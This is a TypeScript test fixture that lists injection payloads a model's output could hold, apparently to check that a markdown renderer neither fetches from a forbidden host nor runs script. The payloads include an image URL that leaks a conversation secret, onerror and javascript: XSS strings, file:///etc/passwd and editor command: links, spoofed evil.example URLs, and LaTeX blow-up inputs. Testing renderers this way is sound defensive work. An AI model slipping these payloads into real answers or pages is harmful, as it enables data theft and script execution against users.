/** What a model could write to make the page load, run or open something. `HOST` is a server that must get no request. */
export const attacks = (HOST: string): readonly string[] => [
  ...pictures(HOST),
  ...html(HOST),
  ...links(HOST),
  ...formulas(HOST),
  ...places(HOST),
];

function pictures(HOST: string): string[] {
  return [
    `![picture](${HOST}/inline.png "t")`,
    `![angle](<${HOST}/angle.png>) ![sized](${HOST}/sized.png =100x100)`,
    `![][ref]\n\n[ref]: ${HOST}/reference.png`,
    `![collapsed][] ![shortcut]\n\n[collapsed]: ${HOST}/collapsed.png\n[shortcut]: ${HOST}/shortcut.png`,
    `[![nested](${HOST}/nested.png)](${HOST}/link)`,
    `![a ![b](${HOST}/inner.png)](${HOST}/outer.png)`,
    `![exfiltrate](${HOST}/log?secret=conversation)`,
    `![protocol](//${HOST.replace(/^https?:\/\//, '')}/relative.png) ![local](/local.png) ![up](../up.png)`,
    '![data](data:image/svg+xml,<svg onload=alert(1)>) ![svg](data:image/svg+xml;base64,PHN2Zz4=)',
    `!\\[escaped](${HOST}/escaped.png) !&#91;entity&#93;(${HOST}/bracket.png)`,
  ];
}

function html(HOST: string): string[] {
  return [
    `<img src="${HOST}/html.png" srcset="${HOST}/set.png 2x" onerror="alert(1)">`,
    `<picture><source srcset="${HOST}/source.png"><img src=${HOST}/picture.png></picture>`,
    `<video src="${HOST}/v.mp4" poster="${HOST}/poster.png" autoplay></video><audio src="${HOST}/a.mp3" autoplay>`,
    `<iframe src="${HOST}/frame"></iframe><object data="${HOST}/object"></object><embed src="${HOST}/embed">`,
    `<link rel="stylesheet" href="${HOST}/s.css"><style>@import url(${HOST}/i.css); body{background:url(${HOST}/b.png)}</style>`,
    `<link rel=prefetch href=${HOST}/prefetch><link rel=dns-prefetch href=${HOST}>`,
    `<div style="background:url(${HOST}/css.png)">x</div>`,
    `<div style="background-image:image-set('${HOST}/set.png' 1x);list-style:url(${HOST}/list.png)">x</div>`,
    `<svg><image href="${HOST}/svg.png"/><use href="${HOST}/use.svg#a"/><script>alert(1)</script></svg>`,
    `<math><maction actiontype="statusline#${HOST}" xlink:href="${HOST}/math">x</maction></math>`,
    `<script src="${HOST}/x.js"></script><script>alert(1)</script>`,
    `<base href="${HOST}/"><meta http-equiv="refresh" content="0;url=${HOST}/refresh">`,
    `<form action="${HOST}/form"><button autofocus onfocus="this.form.submit()">x</button></form>`,
    `<input type=image src=${HOST}/input.png><body background=${HOST}/body.png><table background=${HOST}/table.png>`,
    `<a href="${HOST}/ping" ping="${HOST}/pinged">x</a><details open ontoggle=alert(1)>`,
    `&#60;img src=${HOST}/entity.png&#62; &lt;script&gt;alert(1)&lt;/script&gt; &#x3c;img src=${HOST}/hex.png&#x3e;`,
    '<!-- <img src=x onerror=alert(1)> -->\n\n<![CDATA[<img src=x>]]>\n\n<?php <img src=x> ?>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">\n\n<template><img src=x></template>',
  ];
}

function links(HOST: string): string[] {
  return [
    '[a](javascript:alert(1)) [b](vbscript:x) [c](data:text/html,x) [d](command:workbench.action.quit)',
    '[e](vscode://x/y) [f](file:///etc/passwd) [g](&#106;avascript:alert(1)) [h](JAVASCRIPT&colon;alert(1))',
    '[i](java\tscript:alert(1)) [j]( javascript:alert(1)) [k](<javascript:alert(1)>) <javascript:alert(1)>',
    '[l](https://user:pass@acme.example/) [m](https://acme.example\\@evil.example/) [n](//evil.example) [o](/local)',
    '[q](https://acme.example%40evil.example/) [r](https://acme.example%2F@evil.example/) [s](https:\\\\evil.example)',
    '[t](https://acme.example/\u202egnp.exe) [u](https://acme.example/%E2%80%AE) [v](https://ac\u200bme.example/)',
    '[w](vscode-insiders://x) [x](vscode-webview://x/) [y](command:hostedModels.deleteLora?%5B%5D) <command:x>',
    '[z](blob:https://acme.example/1) [aa](filesystem:https://a/b) [ab](view-source:https://a.example) [ac](about:blank)',
    `${HOST}/auto <${HOST}/angle> www.evil.example help@acme.example`,
    '[p][js]\n\n[js]: javascript:alert(1)',
    '[command:workbench.action.quit](https://acme.example/honest "command:x")',
  ];
}

function formulas(HOST: string): string[] {
  return [
    `$\\href{${HOST}/href}{x}$ and $\\href{javascript:alert(1)}{x}$ and \\(\\url{${HOST}/url}\\)`,
    `$$\\includegraphics[height=1em]{${HOST}/graphics.png}$$`,
    `\\[\n\\htmlClass{icon}{x} \\htmlId{app}{x} \\htmlStyle{background:url(${HOST}/style.png)}{x} \\htmlData{a=b}{x}\n\\]`,
    '$$\n\\def\\x{\\x\\x}\\x\n$$\n\n$\\rule{9999em}{9999em}$ $\\kern{99999em}x$',
    `$${'{'.repeat(900)}x${'}'.repeat(900)}$`,
    '$\\text{<img src=x onerror=alert(1)>}$ $\\unicode{60}script>$ $<img src=x onerror=alert(1)>$',
    '$\\color{transparent}\\textcolor{url(x)}{a}\\colorbox{red}{b}$ $\\verb|<script>|$',
  ];
}

function places(HOST: string): string[] {
  return [
    '```html" onload="alert(1)\n<img src=x onerror=alert(1)>\n```\n\n```<img/src=x>\nx\n```',
    `| <img src=x onerror=alert(1)> | a |\n|---|---|\n| ![t](${HOST}/cell.png) | <b onclick=alert(1)>x</b> |`,
    `# <img src=x onerror=alert(1)>\n\n> <script>alert(1)</script>\n> ![q](${HOST}/quote.png)`,
    `- <iframe srcdoc="<script>alert(1)</script>">\n- [ ] ![task](${HOST}/task.png)`,
    `Note[^1].\n\n[^1]: ![footnote](${HOST}/footnote.png)`,
    `![never closed](${HOST}/open.png`,
  ];
}
